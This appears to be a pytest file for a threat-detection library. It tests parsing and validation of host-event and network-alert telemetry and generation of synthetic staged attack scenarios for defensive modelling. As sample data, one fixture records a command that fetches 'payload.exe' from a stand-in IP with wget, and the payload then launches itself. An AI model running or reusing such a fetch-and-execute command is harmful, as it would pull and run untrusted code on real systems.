"""Telemetry parsing, validation, and synthetic scenario generation."""
import io
import json
import math

import numpy as np
import pytest
from hypothesis import given, strategies as st

from aptstage.errors import TelemetryParseError, ValidationError
from aptstage.telemetry import records, scenario
from aptstage.telemetry import (
    WINDOW_SECONDS,
    EntityKind,
    EntityRef,
    EventKind,
    HostEvent,
    NetworkAlert,
    Protocol,
    ScenarioConfig,
    StageInterval,
    default_campaign_schedule,
    dump_jsonl,
    generate_scenario,
    parse_alerts,
    parse_host_events,
)

from graph_helpers import event_table

PS = EntityRef(EntityKind.PROCESS, "host1/pid:11/powershell.exe")
WGET = EntityRef(EntityKind.PROCESS, "host1/pid:12/wget.exe")
PAYLOAD = EntityRef(EntityKind.FILE, "C:/Users/victim/payload.exe")


def ev_line(ts, kind, subj, obj, **extra):
    rec = {"ts": ts, "host": "host1", "kind": kind,
           "subj_kind": subj.kind.value, "subj_key": subj.key,
           "obj_kind": obj.kind.value, "obj_key": obj.key}
    rec.update(extra)
    return json.dumps(rec)


def test_parse_download_chain():
    lines = [
        ev_line(10.0, "ProcessCreate", PS, WGET, cmd="wget http://203.0.113.10/payload.exe"),
        ev_line(14.0, "FileCreate", WGET, PAYLOAD),
        ev_line(16.0, "ProcessCreate",
                EntityRef(EntityKind.PROCESS, "host1/pid:13/payload.exe"),
                EntityRef(EntityKind.PROCESS, "host1/pid:13/payload.exe")),
    ]
    events = parse_host_events("\n".join(lines))
    assert [e.event_kind for e in events] == [
        EventKind.PROCESS_CREATE, EventKind.FILE_CREATE, EventKind.PROCESS_CREATE]
    assert events[0].subject == PS and events[0].object == WGET
    assert events[1].object == PAYLOAD


def test_parse_empty_stream():
    assert list(parse_host_events("")) == []
    assert parse_alerts("") == []


def test_stable_sort_on_ties():
    a = ev_line(5.0, "FileRead", WGET, PAYLOAD)
    b = ev_line(5.0, "FileWrite", WGET, PAYLOAD)
    events = parse_host_events("\n".join([a, b]))
    assert [e.event_kind for e in events] == [EventKind.FILE_READ, EventKind.FILE_WRITE]
    # and out-of-order timestamps get sorted
    events = parse_host_events("\n".join([ev_line(9.0, "FileRead", WGET, PAYLOAD), a]))
    assert [e.timestamp for e in events] == [5.0, 9.0]


def test_parse_error_carries_line_number():
    good = ev_line(1.0, "FileRead", WGET, PAYLOAD)
    with pytest.raises(TelemetryParseError) as ei:
        parse_host_events("\n".join([good, "{not json"]))
    assert ei.value.line_no == 2
    with pytest.raises(TelemetryParseError) as ei:
        parse_host_events("\n".join([good, '{"ts": 1.0}']))
    assert ei.value.line_no == 2 and "missing" in str(ei.value)


def test_unknown_kind_rejected():
    bad = ev_line(1.0, "TotallyNewKind", WGET, PAYLOAD)
    with pytest.raises(TelemetryParseError):
        parse_host_events(bad)


def alert_line(**over):
    rec = {"ts": 13.0, "sig": "ET TROJAN Possible Malicious EXE Download",
           "sev": 0.8, "proto": "tcp", "cat": "trojan-activity",
           "src_ip": "10.1.1.45", "src_port": 49152,
           "dst_ip": "203.0.113.10", "dst_port": 80}
    rec.update(over)
    return json.dumps(rec)


def test_parse_alert_fields():
    (alert,) = parse_alerts(alert_line())
    assert alert.signature == "ET TROJAN Possible Malicious EXE Download"
    assert alert.src_ip == "10.1.1.45" and alert.dst_ip == "203.0.113.10"
    assert alert.protocol is Protocol.TCP


_EVENT_FIELDS = ("ts", "host", "kind", "subj_kind", "subj_key", "obj_kind", "obj_key")
_ALERT_FIELDS = ("ts", "sig", "sev", "proto", "cat", "src_ip", "src_port", "dst_ip", "dst_port")


def _edited(line, field, *value):
    """`line` with `field` set to `value`, or without `field`."""
    rec = json.loads(line)
    if value:
        rec[field] = value[0]
    else:
        del rec[field]
    return json.dumps(rec)


_GOOD_EVENT = ev_line(1.0, "FileRead", WGET, PAYLOAD)
# id -> (parser, bad line, what the error says)
_REFUSED = {
    "event-unknown-kind": (parse_host_events, _edited(_GOOD_EVENT, "kind", "Bogus"),
                           "unknown event kind: 'Bogus'"),
    "event-unknown-subj_kind": (parse_host_events, _edited(_GOOD_EVENT, "subj_kind", "daemon"),
                                "unknown entity kind: 'daemon'"),
    "event-unknown-obj_kind": (parse_host_events, _edited(_GOOD_EVENT, "obj_kind", "daemon"),
                               "unknown entity kind: 'daemon'"),
    "event-unhashable-kind": (parse_host_events, _edited(_GOOD_EVENT, "kind", []),
                              "unknown event kind: []"),
    "event-unhashable-subj_kind": (parse_host_events, _edited(_GOOD_EVENT, "subj_kind", {}),
                                   "unknown entity kind: {}"),
    "event-unhashable-obj_kind": (parse_host_events, _edited(_GOOD_EVENT, "obj_kind", ["file"]),
                                  "unknown entity kind: ['file']"),
    "alert-unknown-proto": (parse_alerts, _edited(alert_line(), "proto", "sctp"),
                            "unknown protocol: 'sctp'"),
    "alert-unhashable-proto": (parse_alerts, _edited(alert_line(), "proto", {}), "unknown protocol: {}"),
    **{f"event-{name}-{f}": (parse_host_events, _edited(_GOOD_EVENT, f, v),
                            f"{f} must be a string: {v!r}")
       for f, name, v in (("host", "null", None), ("host", "number", 3), ("subj_key", "list", ["a"]),
                          ("obj_key", "number", 7), ("cmd", "number", 1), ("user", "list", [1]))},
    **{f"alert-{name}-{f}": (parse_alerts, _edited(alert_line(), f, v), f"{f} must be a string: {v!r}")
       for f, name, v in (("sig", "number", 5), ("cat", "list", ["scan"]),
                          ("src_ip", "null", None), ("dst_ip", "null", None))},
    **{f"event-{name}-{f}": (parse_host_events, _edited(_GOOD_EVENT, f, v), f"{f} must be {what}: {v!r}")
       for f, name, v, what in (("ts", "string", "5", "a number"), ("ts", "bool", True, "a number"),
                                ("bytes", "bool", True, "an integer"), ("bytes", "string", "12", "an integer"),
                                ("bytes", "fraction", 12.9, "an integer"))},
    **{f"alert-{name}-{f}": (parse_alerts, _edited(alert_line(), f, v), f"{f} must be {what}: {v!r}")
       for f, name, v, what in (("ts", "string", "13", "a number"), ("sev", "string", "0.5", "a number"),
                                ("sev", "bool", True, "a number"), ("src_port", "string", "80", "an integer"),
                                ("src_port", "fraction", 80.7, "an integer"),
                                ("src_port", "bool", False, "an integer"),
                                ("dst_port", "float", 80.0, "an integer"))},
    **{f"event-ts-{name}": (parse_host_events, _edited(_GOOD_EVENT, "ts", v),
                            f"timestamp must be finite and >= 0: {v}")
       for name, v in (("nan", math.nan), ("infinity", math.inf), ("negative", -1.0))},
    "event-empty-host": (parse_host_events, _edited(_GOOD_EVENT, "host", ""), "host_id must be non-empty"),
    **{f"event-empty-{f}": (parse_host_events, _edited(_GOOD_EVENT, f, ""), "entity key must be non-empty")
       for f in ("subj_key", "obj_key")},
    "event-self-edge-FileRead": (parse_host_events,
                                 _edited(_edited(_GOOD_EVENT, "obj_kind", WGET.kind.value), "obj_key", WGET.key),
                                 "subject == object not allowed for FileRead"),
    "event-bytes-ProcessCreate": (parse_host_events, _edited(_edited(_GOOD_EVENT, "kind", "ProcessCreate"), "bytes", 3),
                                  "bytes not allowed for ProcessCreate"),
    "event-negative-bytes": (parse_host_events, _edited(_GOOD_EVENT, "bytes", -3), "bytes must be non-negative: -3"),
    **{f"event-missing-{f}": (parse_host_events, _edited(_GOOD_EVENT, f), f"missing required field: {f}")
       for f in _EVENT_FIELDS},
    **{f"alert-missing-{f}": (parse_alerts, _edited(alert_line(), f), f"missing required field: {f}")
       for f in _ALERT_FIELDS},
}


@pytest.mark.parametrize("case", sorted(_REFUSED))
def test_refused_record_names_its_line(case):
    parse, bad, message = _REFUSED[case]
    good = _GOOD_EVENT if parse is parse_host_events else alert_line()
    with pytest.raises(TelemetryParseError) as ei:
        parse("\n".join([good, "", bad, good]))
    assert ei.value.line_no == 3 and str(ei.value) == f"line 3: {message}"


def test_null_cmd_and_user_read_as_absent():
    (ev,) = parse_host_events(_edited(_edited(_GOOD_EVENT, "cmd", None), "user", None))
    assert ev.command is None and ev.user is None


def test_entity_refs_are_shared_within_one_parse_call_only():
    proc_payload = EntityRef(EntityKind.PROCESS, PAYLOAD.key)
    text = "\n".join([ev_line(1.0, "FileRead", WGET, PAYLOAD), ev_line(2.0, "FileWrite", WGET, PAYLOAD),
                      ev_line(3.0, "ProcessCreate", WGET, proc_payload)])
    first = parse_host_events(text)
    assert first.subj[0] == first.subj[1] == first.subj[2]
    assert first.obj[0] == first.obj[1] and first[0].object == PAYLOAD
    # one key is one interned id, whatever kind it is sighted under
    assert first[2].object == proc_payload and first.obj[2] == first.obj[0]
    assert first.strings.count(PAYLOAD.key) == 1
    again = parse_host_events(text)
    assert list(again) == list(first)
    assert again.strings == first.strings and again.strings is not first.strings


def test_chunked_parse_matches_one_chunk(monkeypatch):
    procs = (PS, WGET, EntityRef(EntityKind.PROCESS, "host1/pid:14/cmd.exe"))
    lines = [ev_line(float(i % 7), "FileRead", procs[i % 3], PAYLOAD, user=f"u{i % 4}",
                     **({"cmd": f"c{i % 5}"} if i % 2 else {})) for i in range(20)]
    alerts = [alert_line(ts=float(i % 4), src_port=i) for i in range(9)]
    whole, whole_alerts = parse_host_events("\n".join(lines)), parse_alerts("\n".join(alerts))
    monkeypatch.setattr(records, "_CHUNK", 3)
    chunked = parse_host_events("\n".join(lines))
    assert list(chunked) == list(whole) and sorted(chunked.strings) == sorted(whole.strings)
    assert chunked.ts.tolist() == sorted(float(i % 7) for i in range(20))
    assert parse_alerts("\n".join(alerts)) == whole_alerts
    lines[10] = _edited(lines[10], "kind", "Bogus")
    with pytest.raises(TelemetryParseError) as ei:
        parse_host_events("\n".join(lines))
    assert str(ei.value) == "line 11: unknown event kind: 'Bogus'"


def test_alert_severity_boundaries():
    (alert,) = parse_alerts(alert_line(sev=1.0))
    assert alert.severity == 1.0
    with pytest.raises(TelemetryParseError):
        parse_alerts(alert_line(sev=1.5))
    with pytest.raises(TelemetryParseError):
        parse_alerts(alert_line(src_port=70000))


def test_event_invariants(monkeypatch):
    # self edges parse where a program starts itself
    for kind in ("FileExec", "ProcessCreate"):
        (ev,) = parse_host_events(ev_line(1.0, kind, WGET, WGET))
        assert ev.subject == ev.object == WGET
    # the generator's events pass the parser's checks
    checked = []
    monkeypatch.setattr(scenario, "_check_events", lambda t: checked.append(len(t)) or t)
    events, _, _ = generate_scenario(campaign_cfg(seed=1, windows=4))
    assert checked == [len(events)] and len(events) > 0


@given(st.floats(0, 1e6), st.integers(0, 65535), st.sampled_from(list(Protocol)))
def test_alert_roundtrip(ts, port, proto):
    alert = NetworkAlert(ts, "sig", 0.5, proto, "cat", "1.2.3.4", port, "5.6.7.8", 443)
    assert NetworkAlert.from_record(json.loads(alert.to_json_line())) == alert


def test_event_roundtrip_with_optionals():
    ev = HostEvent(3.5, "h2", EventKind.NET_SEND, WGET,
                   EntityRef(EntityKind.IP, "203.0.113.10:80"),
                   command=None, user="alice", bytes=512)
    (back,) = event_table([ev])
    assert back == ev


def test_dump_then_parse_roundtrip():
    events = event_table([HostEvent(1.0, "h", EventKind.FILE_READ, WGET, PAYLOAD, bytes=10),
                          HostEvent(2.0, "h", EventKind.PROCESS_CREATE, PS, WGET,
                                    command="x", user="u")])
    buf = io.StringIO()
    dump_jsonl(events, buf)
    assert list(parse_host_events(buf.getvalue())) == list(events)


# ---------------------------------------------------------------- scenario


def campaign_cfg(seed=0, windows=12):
    dur = windows * WINDOW_SECONDS
    return ScenarioConfig(num_hosts=3, duration=dur,
                          stage_schedule=default_campaign_schedule(dur), seed=seed)


def test_scenario_deterministic():
    e1, a1, l1 = generate_scenario(campaign_cfg(seed=3))
    e2, a2, l2 = generate_scenario(campaign_cfg(seed=3))
    assert list(e1) == list(e2) and a1 == a2 and l1 == l2


def test_scenario_seeds_differ():
    differing = 0
    for s in range(10):
        e1, _, _ = generate_scenario(campaign_cfg(seed=s))
        e2, _, _ = generate_scenario(campaign_cfg(seed=s + 100))
        differing += list(e1) != list(e2)
    assert differing >= 9


def test_empty_schedule_all_benign():
    cfg = ScenarioConfig(num_hosts=2, duration=4 * WINDOW_SECONDS,
                         stage_schedule=[], seed=1)
    events, alerts, labels = generate_scenario(cfg)
    assert set(labels) == {0}
    assert alerts == []
    assert events, "benign background traffic expected"


def test_campaign_covers_all_stages():
    _, _, labels = generate_scenario(campaign_cfg(seed=4))
    assert set(labels) == set(range(7))


def test_single_stage2_interval_contains_download_chain():
    dur = 3 * WINDOW_SECONDS
    cfg = ScenarioConfig(num_hosts=2, duration=dur,
                         stage_schedule=[StageInterval(2, 400.0, 500.0)], seed=6)
    events, alerts, labels = generate_scenario(cfg)
    window = [e for e in events if 300.0 <= e.timestamp < 600.0]
    kinds = [e.event_kind for e in window]
    assert EventKind.PROCESS_CREATE in kinds
    assert EventKind.FILE_CREATE in kinds
    assert EventKind.NET_CONNECT in kinds
    # the dropped payload starts itself: a self-referencing ProcessCreate
    assert any(e.event_kind is EventKind.PROCESS_CREATE and e.subject == e.object
               for e in window)
    assert len(alerts) >= 1  # network-crossing stage must raise >= 1 alert
    assert labels[1] == 2 and labels[0] == 0


def test_alerts_match_network_activity():
    events, alerts, _ = generate_scenario(campaign_cfg(seed=9))
    net_kinds = {EventKind.NET_CONNECT, EventKind.NET_SEND, EventKind.NET_RECV}
    for alert in alerts:
        w = int((alert.timestamp - min(e.timestamp for e in events)) // WINDOW_SECONDS)
        match = [e for e in events if e.event_kind in net_kinds
                 and abs(e.timestamp - alert.timestamp) < WINDOW_SECONDS
                 and (alert.src_ip.startswith("10.0.0.") or alert.dst_ip.startswith("10.0.0."))]
        assert match, f"alert at {alert.timestamp} (window {w}) has no nearby network event"


def test_labels_one_per_window():
    for windows in (4, 9):
        _, _, labels = generate_scenario(campaign_cfg(seed=2, windows=windows))
        assert len(labels) == windows


def test_config_validation():
    with pytest.raises(ValidationError):
        ScenarioConfig(num_hosts=0, duration=600.0, stage_schedule=[], seed=0)
    with pytest.raises(ValidationError):
        ScenarioConfig(num_hosts=1, duration=600.0,
                       stage_schedule=[StageInterval(7, 0.0, 10.0)], seed=0)
    with pytest.raises(ValidationError):  # overlapping intervals
        ScenarioConfig(num_hosts=1, duration=600.0,
                       stage_schedule=[StageInterval(1, 0.0, 100.0),
                                       StageInterval(2, 50.0, 150.0)], seed=0)
    with pytest.raises(ValidationError):  # out of range
        ScenarioConfig(num_hosts=1, duration=600.0,
                       stage_schedule=[StageInterval(1, 500.0, 700.0)], seed=0)
